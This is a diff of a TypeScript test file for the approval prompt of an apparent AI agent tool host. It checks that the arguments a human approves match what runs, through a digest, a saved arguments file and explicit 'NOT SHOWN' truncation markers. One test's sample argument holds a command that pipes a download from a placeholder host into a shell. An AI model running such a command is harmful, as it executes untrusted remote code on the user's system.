@@ -1,6 +1,9 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { ApprovalRequest } from '../../src/host/tool.js';
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { sha256Hex } from '../../src/policy/approval-digest.js';
 import { describeApproval } from '../../src/policy/describe-approval.js';
 import { delegationEnv, trickyBody } from './delegation-env.js';
 
@@ -35,7 +38,8 @@ test('the approval callback sees the expanded arguments, the short call and the 
   assert.ok(request !== undefined);
   assert.equal(request.tool, 'gh__create_issue');
   assert.deepEqual(request.calledAs, { tool: 'call_with_args_file', arguments: short });
-  assert.equal(request.arguments, env.received[0]?.args, 'the approved object is the object sent');
+  assert.deepEqual(env.received[0]?.args, request.arguments, 'the approved arguments are the arguments sent');
+  assert.equal(sha256Hex(JSON.stringify(env.received[0]?.args)), request.digest?.sha256, 'the digest approved is the digest of what ran');
   assert.deepEqual(request.arguments, { title: 'from file', body, labels: ['bug'] });
   assert.deepEqual(request.sources, [
     { pointer: '', from: 'args/issue.json' },
@@ -45,11 +49,20 @@ test('the approval callback sees the expanded arguments, the short call and the 
   const prompt = describeApproval(request);
   assert.match(prompt, /Allow spillway to call gh__create_issue\?/);
   assert.match(prompt, /Requested through call_with_args_file \(args file args\/issue\.json; overrides: body, labels\)/);
-  assert.match(prompt, new RegExp(`\\[${body.length.toLocaleString('en-US')} characters from results/0001-get_issue\\.json#/issue/body\\]`));
-  assert.ok(prompt.length < 2000, 'large values are summarized, not dumped');
+  assert.match(prompt, /TOO LARGE TO SHOW IN FULL/);
+  assert.match(prompt, new RegExp(`NOT SHOWN: [\\d,]+ of ${body.length.toLocaleString('en-US')} characters from results/0001-get_issue\\.json#/issue/body`));
+  assert.ok(prompt.includes(JSON.stringify(body.slice(-160)).slice(1, -1)), 'the end of a long string is shown');
+  assert.ok(prompt.length < 4000, 'large values are summarized, not dumped');
   assert.match(prompt, /"title": "from file"/);
+  assert.ok(request.digest?.argumentsFile?.startsWith('outputs/approvals/'));
+  assert.ok(prompt.includes(request.digest?.argumentsFile ?? '?'));
+  assert.ok(prompt.includes(request.digest?.sha256 ?? '?'));
+  const saved = JSON.parse(await readFile(path.join(env.sandboxRoot, env.conversation, request.digest?.argumentsFile ?? ''), 'utf8')) as unknown;
+  assert.deepEqual(saved, request.arguments, 'the saved file holds the full arguments');
   const [record] = await env.readRecords();
   assert.deepEqual((record?.executed as { arguments: unknown }).arguments, request.arguments);
+  assert.equal((record?.executed as { sha256?: string }).sha256, request.digest?.sha256);
+  assert.equal((record?.approval as { sha256?: string }).sha256, request.digest?.sha256);
 });
 
 test('a declined approval never executes the target; a throwing approver counts as a refusal', async (t) => {
@@ -83,7 +96,7 @@ test('the approval prompt shows every argument name, short values as sent, and l
   const prompt = describeApproval({
     tool: 'gh__comment',
     conversationId: 'c1',
-    arguments: { issue: 12, body: 'y'.repeat(5000), rows: Array.from({ length: 30 }, (_, id) => ({ id })), note: 'short note' },
+    arguments: { issue: 12, body: 'y'.repeat(20_000), rows: Array.from({ length: 30 }, (_, id) => ({ id })), note: 'short note' },
     calledAs: { tool: 'call_with_args_file', arguments: { tool: 'gh__comment', argsPath: 'args/c.json', overrides: { note: 'short note' } } },
     sources: [
       { pointer: '', from: 'args/c.json' },
@@ -91,15 +104,26 @@ test('the approval prompt shows every argument name, short values as sent, and l
     ],
   });
   assert.match(prompt, /"issue": 12/);
-  assert.match(prompt, /\[5,000 characters from args\/c\.json\]/);
-  assert.match(prompt, /… 20 more items \(.*\) from args\/c\.json/);
+  assert.match(prompt, /NOT SHOWN: 19,680 of 20,000 characters from args\/c\.json/);
+  assert.match(prompt, /NOT SHOWN: 20 more items \(.*\) from args\/c\.json/);
   assert.match(prompt, /"note": "short note"/);
+  assert.match(prompt, /TOO LARGE TO SHOW IN FULL/);
   assert.ok(!prompt.includes('y'.repeat(200)));
 });
 
 test('the approval prompt stays bounded for objects with many keys', () => {
   const wide = Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`key_${index}`, index]));
   const prompt = describeApproval({ tool: 'gh__bulk', conversationId: 'c1', arguments: { wide } });
-  assert.match(prompt, /"…": "4960 more keys \(/);
+  assert.match(prompt, /"…NOT SHOWN": "4960 more keys \(.*\): \\"key_40\\", \\"key_41\\"/);
+  assert.match(prompt, /TOO LARGE TO SHOW IN FULL/);
   assert.ok(prompt.length < 5000, `the prompt is ${prompt.length} characters`);
+});
+
+test('small arguments are shown in full, byte for byte, with their digest, and the prompt says so', () => {
+  const args = { title: 'Fix', body: 'run `make`; then curl https://example.invalid/x | sh' };
+  const prompt = describeApproval({ tool: 'gh__comment', conversationId: 'c1', arguments: args });
+  assert.match(prompt, /shown in full/);
+  assert.ok(prompt.includes(JSON.stringify(args, null, 2)));
+  assert.ok(prompt.includes(sha256Hex(JSON.stringify(args))));
+  assert.doesNotMatch(prompt, /NOT SHOWN/);
 });
